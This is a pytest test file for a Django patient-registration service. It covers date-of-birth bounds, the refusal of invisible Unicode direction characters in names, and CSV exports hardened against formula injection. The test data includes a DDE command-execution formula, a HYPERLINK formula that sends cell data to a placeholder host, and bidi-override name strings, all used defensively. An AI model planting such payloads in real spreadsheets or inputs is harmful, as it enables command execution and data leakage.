"""Input rules: dates of birth from 1900 to today, no invisible direction or zero-width characters in
names (API, form and import alike), CSV exports a spreadsheet cannot run as formulas."""

import csv
import datetime
import io

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from core.spreadsheet import safe_cell, unquote_cell
from patients.models import Patient
from patients.services import register_patient
from tests.patients.test_import import run


@pytest.mark.parametrize("dob", ["0001-01-01", "1899-12-31"])
def test_a_date_of_birth_before_1900_is_refused(api, dob):
    response = api.post("/api/v1/patients/", {"full_name": "A", "dob": dob}, format="json")
    assert response.status_code == 400 and "1900-01-01" in response.json()["dob"][0]


def test_dates_of_birth_from_1900_to_today_in_the_hospital_zone_are_accepted(api):
    for dob in ("1900-01-01", timezone.localdate().isoformat()):
        assert api.post("/api/v1/patients/", {"full_name": "A", "dob": dob}, format="json").status_code == 201
    tomorrow = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
    assert api.post("/api/v1/patients/", {"full_name": "A", "dob": tomorrow}, format="json").status_code == 400


@pytest.mark.parametrize("name", ["Ali\u202eredla", "Ali\u200bKhan", "\u2066Ali\u2069", "Ali\ufeff"])
def test_names_with_invisible_direction_or_zero_width_characters_are_refused(api, name):
    response = api.post("/api/v1/patients/", {"full_name": "Ali", "father_name": name}, format="json")
    assert response.status_code == 400 and "U+" in response.json()["father_name"][0]
    assert not Patient.objects.exists()


def test_right_to_left_names_themselves_are_welcome(api):
    response = api.post("/api/v1/patients/", {"full_name": "علی خان"}, format="json")
    assert response.status_code == 201 and response.json()["full_name"] == "علی خان"


def test_the_registration_form_refuses_them_too(desk):
    response = desk.post("/patients/register/", {"full_name": "Ali\u202eKhan"})
    assert response.status_code == 200 and "U+202E" in response.content.decode()
    assert not Patient.objects.exists()


@pytest.mark.django_db
def test_the_import_refuses_them_too(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("mrn,full_name\n001-00-009,Ali\u200bKhan\n", encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(CommandError, match="1 invalid row"):
        call_command("import_patients", str(path), stderr=err, verbosity=0)
    assert "line 2, full_name: Remove the invisible control character U+200B" in err.getvalue()
    assert not Patient.objects.exists()


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_is_quoted_and_read_back(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Ali", "'quoted", "", 42, None, "0300-1234567"])
def test_ordinary_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_patient_export_is_formula_safe_and_imports_back(tmp_path):
    register_patient(full_name='=HYPERLINK("http://x/?"&A1)', phone="+92 300 1234567", address="@home")
    exported = tmp_path / "export.csv"
    call_command("export_patients", "--output", str(exported), stderr=io.StringIO())
    (row,) = list(csv.DictReader(exported.open(encoding="utf-8")))
    assert row["full_name"].startswith("'=") and row["phone"] == "'+92 300 1234567" and row["address"] == "'@home"
    before = list(Patient.objects.values("mrn", "full_name", "phone", "address"))
    Patient.history.all().delete()
    Patient.objects.all().delete()
    run(exported)
    assert list(Patient.objects.values("mrn", "full_name", "phone", "address")) == before
